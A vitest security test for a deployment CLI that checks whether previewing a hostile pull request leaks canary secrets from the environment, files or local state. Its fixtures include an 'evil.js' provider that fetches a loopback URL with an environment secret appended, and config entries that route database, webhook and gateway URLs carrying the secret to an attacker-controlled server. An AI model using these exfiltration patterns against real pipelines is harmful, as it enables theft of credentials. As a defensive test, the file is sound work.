import { execFile } from 'node:child_process';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import { repositoryRoot } from '../examples/project.ts';
import { serve } from '../http/loopback.ts';
import { Collection, filesBelow, plainCanary } from '../secrets/canaries.ts';
import { startGitea } from '../support/gitea-host.ts';
import { startGitHub } from '../support/github-host.ts';
import { temporaryDirectory } from '../support/servers.ts';
import { keptPullRequest, type SourceControlHost } from '../support/source-control-host.ts';
import type { Watched } from '../support/watched-process.ts';
import { workflowFile } from '../support/workflows.ts';
import { commitIn, gitIn } from '../support/working-clone.ts';
import { run } from './run.ts';

const token = plainCanary('host-token');
const inEnvironment = plainCanary('environment');
const inFile = plainCanary('file');
const inDatabase = plainCanary('database');
const canaries = [token, inEnvironment, inFile, inDatabase];

type HostName = 'github' | 'gitea';

/** The state is embedded, below the configuration: whatever opens it can read it. */
const configurationOf = (name: HostName, url: string): string => `version: 1
project: invoices
source: { repository: . }
source_control: { provider: ${name}, repository: acme/workflows, token: "\${env.HOST_TOKEN}", url: "${url}" }
environments: { development: { type: development } }
targets: { development: { environment: development, version: latest } }
`;

/** What a head proposes that wants secrets sent to where they can be read, and programs of its own that would send them. */
const hostileFiles = (name: HostName, configuration: string, port: number): Readonly<Record<string, string>> => {
  const elsewhere = `http://127.0.0.1:${port}`;
  return {
    'm3forge.yaml': `${configuration
      .replace(/url: "[^"]*"/, `url: "${elsewhere}/api/${name === 'github' ? 'v3' : 'v1'}"`)
      .replace(
        '{ type: development }',
        `{ type: development, database: "postgresql://u:\${env.CANARY}@127.0.0.1:${port}/x", gateways: [{ id: eu, url: "${elsewhere}/\${env.CANARY}" }] }`,
      )
      .replace(
        'version: latest }',
        `version: latest, notifications: [{ provider: webhook, url: "${elsewhere}/\${env.CANARY}", secret: "\${env.CANARY}" }] }`,
      )}state: { database: "postgresql://u:\${env.CANARY}@127.0.0.1:${port}/x" }
providers: { evil: { path: ./evil.js } }
backups: { provider: evil }
`,
    'evil.js': `fetch('${elsewhere}/' + process.env.CANARY)`,
    'workflows/receipts.json': workflowFile('receipts', ['read', `\${env.CANARY} ![x](${elsewhere}/x.png) @everyone`]),
  };
};

/** The same, and a secret in a field that everybody sees, where none may stand. */
const inPublic = (files: Readonly<Record<string, string>>): Readonly<Record<string, string>> => ({
  ...files,
  'm3forge.yaml': (files['m3forge.yaml'] ?? '').replace('project: invoices', `project: "\${env.CANARY}"`),
});

/** Each file with its size and the time at which it was written last. */
const traceOf = (directory: string): readonly string[] =>
  filesBelow(directory, []).map((path) => {
    const { size, mtimeMs } = statSync(join(directory, path));
    return `${path} ${size} ${mtimeMs}`;
  });

/** Runs the built program, watched from its first moment on. */
const runWatched = (cwd: string, args: readonly string[], variables: Readonly<Record<string, string>>) => {
  const into = join(temporaryDirectory(), 'watched.jsonl');
  writeFileSync(into, '');
  const preload = join(import.meta.dirname, '../support/watched-process.ts');
  const env = {
    ...variables,
    ...{ PATH: process.env.PATH ?? '', WATCHED_INTO: into, NODE_OPTIONS: `--no-warnings --import=${preload}` },
  };
  return new Promise<{ readonly exit: number; readonly output: string; readonly watched: readonly Watched[] }>(
    (resolve) => {
      execFile(process.execPath, [join(repositoryRoot, 'dist/main.js'), ...args], { cwd, env }, (error, out, err) => {
        const lines = readFileSync(into, 'utf8').split('\n').filter(Boolean);
        const exit = error ? Number(error.code ?? 1) : 0;
        resolve({ exit, output: out + err, watched: lines.map((line) => JSON.parse(line) as Watched) });
      });
    },
  );
};

test.each<readonly [HostName, string, typeof inPublic, number]>([
  ['github', 'where it would be obeyed', (files) => files, 0],
  ['gitea', 'where it would be obeyed', (files) => files, 0],
  ['github', 'in a public field', inPublic, 3],
])(
  'a hostile pull request gets no secret of environment, file and database, and the host alone is asked: %s, %s',
  async (name, _, made, expected) => {
    const strangers: unknown[] = [];
    await using elsewhere = await serve((request, response) => {
      strangers.push(request.url);
      response.end('{}');
    });
    const host: SourceControlHost = name === 'github' ? await startGitHub() : await startGitea();
    onTestFinished(() => host[Symbol.asyncDispose]());
    host.users.set(token.value, { login: 'M3forge-Bot', isBot: false });
    const directory = join(temporaryDirectory(), 'clone');
    gitIn('.', 'init', '--quiet', '-b', 'main', directory);
    const configuration = configurationOf(name, host.url);
    const baseCommit = commitIn(directory, {
      ...{ 'm3forge.yaml': configuration, '.gitignore': '.m3forge\n.env\n' },
      'workflows/invoices.json': workflowFile('invoices'),
    });
    gitIn(directory, 'tag', 'v1.0.0');

    writeFileSync(join(directory, '.env'), `SECRET=${inFile.value}\n`);
    const home = temporaryDirectory();
    writeFileSync(join(home, '.netrc'), `machine 127.0.0.1 login x password ${inFile.value}\n`);
    const reason = ['--reason', inDatabase.value] as const;
    expect(await run(['hold', 'add', '--target', 'development', ...reason], { cwd: directory })).toMatchObject({
      exitCode: 0,
    });
    // It is there, and in bytes that anybody could read.
    const state = join(directory, '.m3forge');
    const kept = new Collection();
    kept.addFiles(state, []);
    expect(kept.find([inDatabase])).not.toEqual([]);

    // As a checkout of the head has it, in which somebody looks at what is proposed.
    gitIn(directory, 'checkout', '--quiet', '-b', 'receipts');
    const headCommit = commitIn(directory, made(hostileFiles(name, configuration, elsewhere.port)));
    gitIn(directory, 'update-ref', 'refs/remotes/origin/main', baseCommit);
    host.pullRequests.push(keptPullRequest({ number: 12, headBranch: 'receipts', headCommit, baseCommit }));

    const before = traceOf(state);
    const variables = { HOST_TOKEN: token.value, CANARY: inEnvironment.value, HOME: home };
    const { exit, output, watched } = await runWatched(directory, ['preview', '--pr', '12', '--post'], variables);
    expect(output).toMatch(/Posted: http/);
    expect(exit).toBe(expected);
    expect(host.comments).toHaveLength(1);
    expect(host.statuses).toHaveLength(1);
    expect(host.violations).toEqual([]);

    const said = new Collection();
    said.add('output', output);
    // The token goes to its host, as what it is and nowhere else.
    const sent = host.requests.map(({ headers: { authorization, ...headers }, query, ...rest }) => {
      expect(authorization).toBe(`token ${token.value}`);
      return { ...rest, headers, query: query.toString() };
    });
    said.add('requests', JSON.stringify(sent));
    expect(said.find(canaries)).toEqual([]);

    const which = (what: Watched['what']): readonly string[] => [
      ...new Set(watched.filter((one) => one.what === what).map((one) => one.which)),
    ];
    expect(which('connect')).toEqual([new URL(host.url).host]);
    expect(which('datagram')).toEqual([]);
    expect(which('lookup').filter((one) => one !== '127.0.0.1')).toEqual([]);
    expect(strangers).toEqual([]);
    const started = which('start');
    expect(started.length).toBeGreaterThan(0);
    // Git alone, which asks nobody itself.
    expect(started.filter((line) => !/^git .* -c protocol\.allow=never /.test(line))).toEqual([]);
    // No database was opened, no lock taken, nothing written.
    expect(traceOf(state)).toEqual(before);
  },
  60_000,
);
